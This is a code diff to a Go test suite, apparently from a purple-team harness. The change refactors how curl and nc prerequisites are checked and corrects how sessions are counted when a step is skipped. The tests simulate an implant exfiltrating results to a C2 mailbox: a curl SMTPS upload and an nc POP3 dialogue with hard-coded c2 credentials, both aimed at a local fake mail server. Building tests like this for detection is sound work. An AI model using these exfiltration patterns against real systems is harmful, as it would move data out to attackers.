@@ -23,6 +23,7 @@ import (
 	"github.com/emersion/go-imap/v2/imapclient"
 
 	"github.com/purpleharness/purpleharness/fakemail"
+	"github.com/purpleharness/purpleharness/prereq"
 )
 
 // Mail is what the suite sends: results an implant exfiltrates.
@@ -32,10 +33,7 @@ const Mail = "From: implant@victim.test\r\nTo: c2@purpleharness.test\r\nSubject:
 // failing the test on a non-zero exit; it skips when curl is missing.
 func Curl(t testing.TB, stdin string, args ...string) string {
 	t.Helper()
-	path, err := exec.LookPath("curl")
-	if err != nil {
-		t.Skip("curl not installed")
-	}
+	path := prereq.LookPath(t, "curl")
 	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
 	defer cancel()
 	cmd := exec.CommandContext(ctx, path, append([]string{"-sS", "--max-time", "15"}, args...)...)
@@ -123,10 +121,7 @@ func Run(t *testing.T, h fakemail.Handle) {
 				"--mail-rcpt", fakemail.DefaultAddress, "-T", "-")
 		}, fakemail.SMTPS, fakemail.TLSImplicit, "", "DATA", fakemail.ToServer},
 		{"nc pop3 dialogue", func(t *testing.T, h fakemail.Handle) {
-			nc, err := exec.LookPath("nc")
-			if err != nil {
-				t.Skip("nc not installed")
-			}
+			nc := prereq.LookPath(t, "nc")
 			host, port, _ := net.SplitHostPort(h.Addr(fakemail.POP3))
 			cmd := exec.Command(nc, "-N", "-w", "5", host, port)
 			cmd.Stdin = strings.NewReader("USER c2\r\nPASS atomic-red\r\nSTAT\r\nRETR 2\r\nQUIT\r\n")
@@ -154,14 +149,15 @@ func Run(t *testing.T, h fakemail.Handle) {
 			}
 		}, fakemail.POP3, "", fakemail.DefaultLogin, "STAT", ""},
 	}
-	for i, st := range steps {
+	for _, st := range steps {
 		ok := t.Run(st.name, func(t *testing.T) {
+			before := len(h.Evidence()) // a skipped step records nothing
 			st.run(t, h)
-			ev := WaitSessions(h, i+1)
-			if len(ev) != i+1 {
-				t.Fatalf("%d sessions recorded, want %d", len(ev), i+1)
+			ev := WaitSessions(h, before+1)
+			if len(ev) != before+1 {
+				t.Fatalf("%d sessions recorded, want %d", len(ev), before+1)
 			}
-			CheckSession(t, ev[i], st.svc, st.tls, st.user, st.verb, st.dir)
+			CheckSession(t, ev[before], st.svc, st.tls, st.user, st.verb, st.dir)
 		})
 		if !ok {
 			return // later steps count sessions; stop at the first failure
